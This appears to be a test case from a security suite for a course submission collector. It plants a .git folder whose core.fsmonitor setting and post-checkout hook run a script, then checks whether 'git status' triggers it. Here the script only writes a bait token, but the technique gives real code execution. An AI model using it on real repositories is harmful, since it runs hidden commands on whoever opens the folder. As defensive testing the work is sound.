import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import type { SubmissionAttack } from '../attack.ts';
import type { Bait } from '../bait/bait.ts';
import { ALONE_PATH, put, SAYS_HELLO } from '../course/alone-program.ts';
import { wroteInTheHome } from '../evidence.ts';

const LAYER = 'collection: no git in a folder that was handed in';

export const attack: SubmissionAttack = {
  tries: 'hands in its .git folder, in which git’s own settings and hooks name commands',
  stoppedBy: { bubblewrap: LAYER, node: LAYER },
  without: 'git status in that folder',
  submit,
  evidence: wroteInTheHome,
  async control({ folder, world }) {
    const bait = world.baitFor('hooks', folder);
    submit(folder, 'student', bait);
    const env = { ...process.env, GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'safe.directory', GIT_CONFIG_VALUE_0: '*' };
    spawnSync('git', ['status'], { cwd: join(folder, 'student'), stdio: 'ignore', env });
    return world.wasWritten(bait) ? 'the command ran' : undefined;
  },
};

function submit(classFolder: string, student: string, { drop, token }: Bait): void {
  const folder = join(classFolder, student);
  put(folder, ALONE_PATH, SAYS_HELLO);
  spawnSync('git', ['init', '--quiet', '--template=', folder]);
  put(folder, '.git/run.sh', `#!/bin/sh\necho ${token} > '${drop}'\n`);
  spawnSync('git', ['config', 'core.fsmonitor', 'sh .git/run.sh'], { cwd: folder });
  put(folder, '.git/hooks/post-checkout', `#!/bin/sh\nsh .git/run.sh\n`);
}
